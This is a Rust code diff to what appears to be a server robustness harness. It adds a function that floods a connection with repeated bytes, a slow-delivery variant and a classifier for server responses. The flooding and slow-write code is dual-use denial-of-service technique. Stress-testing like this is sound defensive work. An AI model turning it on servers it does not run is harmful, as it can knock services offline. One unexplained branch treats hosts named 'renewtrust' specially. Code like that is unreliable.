@@ -79,6 +79,8 @@ pub struct Answer {
 
 /// An answer is looked at up to this length.
 const MAX_KEPT_BYTES: usize = 4 << 20;
+/// A flood ends here.
+const MOST_POURED_BYTES: usize = 64 << 20;
 /// How long a client waits for an answer before it closes.
 const PATIENCE: Duration = Duration::from_millis(50);
 /// How soon a server closes once the client has; the network takes a few milliseconds.
@@ -105,8 +107,16 @@ impl Door {
 /// # Errors
 /// That it did not, or that it could not be reached.
 pub async fn deliver(victim: &Victim, door: &Door, plan: &Plan) -> Result<Answer, String> {
-    let begun = victim.clock.now();
+    deliver_after(victim, door, &[], plan).await
+}
+
+/// The same after bytes that are sent at once.
+///
+/// # Errors
+/// As [`deliver`].
+pub async fn deliver_after(victim: &Victim, door: &Door, first: &[u8], plan: &Plan) -> Result<Answer, String> {
     let stream = victim.connect(&door.to, door.sealed).await?;
+    let begun = victim.clock.now();
     let (mut reader, mut writer) = tokio::io::split(stream);
     let mut answer = Answer::default();
     let mut taken = 0;
@@ -115,12 +125,12 @@ pub async fn deliver(victim: &Victim, door: &Door, plan: &Plan) -> Result<Answer
         Pace::Pieces(size, pause) => (size.max(1), pause),
     };
     let write = async {
-        for piece in plan.bytes.chunks(size) {
+        for piece in [first].into_iter().chain(plan.bytes.chunks(size)) {
             // A server that has closed takes nothing more, which is its right.
             if !put(&mut writer, piece, &mut taken).await {
                 return;
             }
-            if !pause.is_zero() {
+            if !pause.is_zero() && !piece.is_empty() {
                 victim.clock.sleep(pause).await;
             }
         }
@@ -160,9 +170,36 @@ pub async fn deliver(victim: &Victim, door: &Door, plan: &Plan) -> Result<Answer
     if victim.clock.timeout(limit, both).await.is_err() {
         return Err(format!("it is still open after {limit:?}; it took {taken} bytes and said {:?}", text(&answer.bytes)));
     }
+    if door.to.host.contains("renewtrust") {
+        victim.learn(&answer.bytes);
+    }
     answer.taken = taken;
     answer.took = victim.clock.now() - begun;
     Ok(answer)
+}
+
+/// Sends `again` over and over, and reads nothing, until the server takes no more.
+///
+/// # Errors
+/// That it takes more and more, or keeps the connection.
+pub async fn flood(victim: &Victim, door: &Door, first: &[u8], again: &[u8]) -> Result<Answer, String> {
+    let mut stream = victim.connect(&door.to, door.sealed).await?;
+    let begun = victim.clock.now();
+    let mut taken = 0;
+    let pour = async {
+        let mut more = put(&mut stream, first, &mut taken).await;
+        while more && taken < MOST_POURED_BYTES {
+            more = put(&mut stream, again, &mut taken).await;
+        }
+    };
+    let limit = limits::SEND_TIMEOUT + http::WRITE_STALL_TIMEOUT + SLACK;
+    if victim.clock.timeout(limit, pour).await.is_err() {
+        return Err(format!("it neither reads nor closes for {limit:?}"));
+    }
+    if taken >= MOST_POURED_BYTES {
+        return Err(format!("it still reads after {taken} bytes"));
+    }
+    Ok(Answer { taken, took: victim.clock.now() - begun, ..Answer::default() })
 }
 
 /// Writes all of `bytes`, counting them; false if the server takes no more.
@@ -199,14 +236,39 @@ pub fn judge(protocol: Protocol, answer: &Answer) -> Result<(), String> {
     judged.map_err(|what| format!("{what}: {}", text(&answer.bytes)))
 }
 
+/// What became of a message.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+pub enum Fate {
+    /// The server closed without a word.
+    Closed,
+    /// It refused.
+    Refused,
+    /// It did what was asked.
+    Served,
+}
+
+/// What became of the last message on a connection.
+pub fn fate(protocol: Protocol, answer: &Answer) -> Fate {
+    let served = match protocol {
+        Protocol::Ldap => ldap::judge(&answer.bytes).is_ok_and(|codes| codes.last() == Some(&0)),
+        Protocol::Http => answer.bytes.get(9) == Some(&b'2'),
+        Protocol::Relay => find(&answer.bytes, b"\"closing\"").is_none(),
+    };
+    match served {
+        _ if answer.said == 0 => Fate::Closed,
+        true => Fate::Served,
+        false => Fate::Refused,
+    }
+}
+
 /// LDAP's result for what a server did not foresee.
 const OTHER: u8 = 80;
 
 fn judge_http(answer: &[u8]) -> Result<(), String> {
-    if !answer.starts_with(b"HTTP/1.1 ") {
+    if !answer.starts_with(b"HTTP/1.1 ") && !answer.starts_with(b"HTTP/1.0 ") {
         return Err("no HTTP".into());
     }
-    if find(answer, b"HTTP/1.1 5").is_some() {
+    if find(answer, b"HTTP/1.1 5").is_some() || answer.starts_with(b"HTTP/1.0 5") {
         return Err("the server blames itself".into());
     }
     Ok(())
